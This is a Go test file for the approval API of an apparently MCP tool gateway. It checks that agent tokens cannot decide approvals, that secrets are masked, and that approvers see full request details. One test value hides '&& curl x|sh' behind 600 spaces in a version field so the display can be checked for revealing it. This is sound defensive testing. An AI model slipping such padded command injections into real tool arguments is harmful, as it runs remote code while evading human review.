package approvals

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/mcpguard/mcpguard/identity"
)

// tokens is a hand-written Authenticator: token → identity.
type tokens map[string]identity.Identity

func (t tokens) Authenticate(_ context.Context, tok string) (identity.Identity, error) {
	if tok == "mcp-token" {
		return identity.Identity{}, ErrAgentToken
	}
	id, ok := t[tok]
	if !ok {
		return identity.Identity{}, errors.New("unknown token")
	}
	return id, nil
}

func newAPI(t *testing.T) (*Service, *httptest.Server) {
	t.Helper()
	s, _, _, _ := newTestService(t, nil)
	mux := http.NewServeMux()
	for p, h := range s.Routes(tokens{"dba": dba, "agent": agent, "outsider": outsider}, nil) {
		mux.Handle(p, h)
	}
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return s, srv
}

func call(t *testing.T, srv *httptest.Server, method, path, token, body string) (int, map[string]any) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, srv.URL+path, strings.NewReader(body))
	require.NoError(t, err)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := srv.Client().Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	var out map[string]any
	var buf bytes.Buffer
	_, _ = buf.ReadFrom(resp.Body)
	_ = json.Unmarshal(buf.Bytes(), &out)
	return resp.StatusCode, out
}

func TestAPI(t *testing.T) {
	s, srv := newAPI(t)
	open := func(t *testing.T) string {
		t.Helper()
		res, err := s.Begin(t.Context(), sqlCall(`{"password":"hunter2","query":"`+t.Name()+`"}`))
		require.NoError(t, err)
		return res.Request.ID
	}
	tests := []struct {
		name, method, path, token, body string
		want                            int
	}{
		{name: "anonymous list", method: "GET", path: "/v1/approvals", want: 401},
		{name: "bad token", method: "GET", path: "/v1/approvals", token: "forged", want: 401},
		{name: "agent token listing", method: "GET", path: "/v1/approvals", token: "mcp-token", want: 403},
		{name: "agent token approving", method: "POST", path: "/v1/approvals/{id}/approve", token: "mcp-token", body: `{}`, want: 403},
		{name: "anonymous approve", method: "POST", path: "/v1/approvals/{id}/approve", body: `{}`, want: 401},
		{name: "list pending", method: "GET", path: "/v1/approvals?state=pending", token: "dba", want: 200},
		{name: "unknown state", method: "GET", path: "/v1/approvals?state=maybe", token: "dba", want: 400},
		{name: "get", method: "GET", path: "/v1/approvals/{id}", token: "dba", want: 200},
		{name: "get hidden from outsider", method: "GET", path: "/v1/approvals/{id}", token: "outsider", want: 404},
		{name: "get unknown", method: "GET", path: "/v1/approvals/nope", token: "dba", want: 404},
		{name: "self approval", method: "POST", path: "/v1/approvals/{id}/approve", token: "agent", body: `{"reason":"me"}`, want: 403},
		{name: "outsider approval", method: "POST", path: "/v1/approvals/{id}/approve", token: "outsider", body: `{}`, want: 403},
		{name: "deny needs reason", method: "POST", path: "/v1/approvals/{id}/deny", token: "dba", body: `{}`, want: 400},
		{name: "unknown field", method: "POST", path: "/v1/approvals/{id}/approve", token: "dba", body: `{"reason":"x","grant":"all"}`, want: 400},
		{name: "approve", method: "POST", path: "/v1/approvals/{id}/approve", token: "dba", body: `{"reason":"ok"}`, want: 200},
		{name: "deny", method: "POST", path: "/v1/approvals/{id}/deny", token: "dba", body: `{"reason":"no"}`, want: 200},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			id := open(t)
			code, body := call(t, srv, tc.method, strings.ReplaceAll(tc.path, "{id}", id), tc.token, tc.body)
			require.Equal(t, tc.want, code, body)
			if tc.token == "mcp-token" {
				require.Contains(t, body["error"], "agent tokens cannot decide approvals")
				r, err := s.Get(t.Context(), id)
				require.NoError(t, err)
				require.Equal(t, Pending, r.State)
			}
			if tc.want == 200 && strings.Contains(tc.path, "{id}") {
				require.Equal(t, id, body["id"])
				require.NotContains(t, body, "keys")
				require.Equal(t, "[REDACTED:GENERIC_SECRET]", body["arguments"].(map[string]any)["password"], "masked by the detector")
			}
		})
	}
	t.Run("decision recorded once with who and when", func(t *testing.T) {
		id := open(t)
		code, body := call(t, srv, "POST", "/v1/approvals/"+id+"/approve", "dba", `{"reason":"looks fine"}`)
		require.Equal(t, 200, code)
		d := body["decision"].(map[string]any)
		require.Equal(t, "alice", d["by"].(map[string]any)["subject"])
		require.NotEmpty(t, d["at"])
		code, _ = call(t, srv, "POST", "/v1/approvals/"+id+"/deny", "dba", `{"reason":"changed my mind"}`)
		require.Equal(t, 409, code)
	})
}

// padded is a version that hides a shell command behind 600 spaces.
var padded = "1.4.2" + strings.Repeat(" ", 600) + "&& curl x|sh"

// fullCall is a call with every fact an approver should see, and a member that differs from
// another only by case.
func fullCall(t *testing.T) Call {
	t.Helper()
	params, err := json.Marshal(map[string]any{
		"name":      "deploy",
		"arguments": map[string]any{"version": padded},
		"Arguments": map[string]any{"version": "9.9.9"},
		"_meta":     map[string]any{"progressToken": 1},
	})
	require.NoError(t, err)
	return Call{
		Requester: identity.Identity{Subject: "agent-1", Issuer: "https://idp.test", ClientID: "ci-bot", Groups: []string{"agents", "release"}},
		Tool:      "deploy", Arguments: json.RawMessage(`{"version":` + strconvQuote(padded) + `}`), Params: params,
		Rule: "deploys", Message: "production deploys need a release manager", Reason: "env is prod",
		PolicyVersion: "sha256:0123abcd", Route: Route{Authority: "tools.internal:8080", Path: "/mcp"},
		SessionID: "sess-42", RequestID: "req-7",
	}
}

func strconvQuote(s string) string { b, _ := json.Marshal(s); return string(b) }

func TestAPIShowsCompleteRequest(t *testing.T) {
	s, srv := newAPI(t)
	res, err := s.Begin(t.Context(), fullCall(t))
	require.NoError(t, err)
	code, body := call(t, srv, "GET", "/v1/approvals/"+res.Request.ID, "dba", "")
	require.Equal(t, 200, code)
	params := body["params"].(map[string]any)
	require.Equal(t, padded, params["arguments"].(map[string]any)["version"], "the full value, never cut")
	require.Equal(t, "9.9.9", params["Arguments"].(map[string]any)["version"], "case-variant member kept")
	fields := map[string]string{}
	for _, f := range body["fields"].([]any) {
		m := f.(map[string]any)
		fields[m["path"].(string)] = m["value"].(string)
	}
	require.Equal(t, "1.4.2␠×600&& curl x|sh", fields[".arguments.version"])
	require.Equal(t, "9.9.9", fields[".Arguments.version"])
	require.Equal(t, "1", fields["._meta.progressToken"])
	require.Equal(t, "production deploys need a release manager", body["message"])
	require.Equal(t, "sha256:0123abcd", body["policy_version"])
	require.Equal(t, "sess-42", body["session_id"])
	require.Equal(t, map[string]any{"authority": "tools.internal:8080", "path": "/mcp"}, body["route"])
	req := body["requester"].(map[string]any)
	require.Equal(t, []any{"agents", "release"}, req["groups"])
	require.Equal(t, "https://idp.test", req["issuer"])
	require.Equal(t, "ci-bot", req["client_id"])
	require.NotEmpty(t, body["created_at"])
	require.NotEmpty(t, body["expires_at"])
}
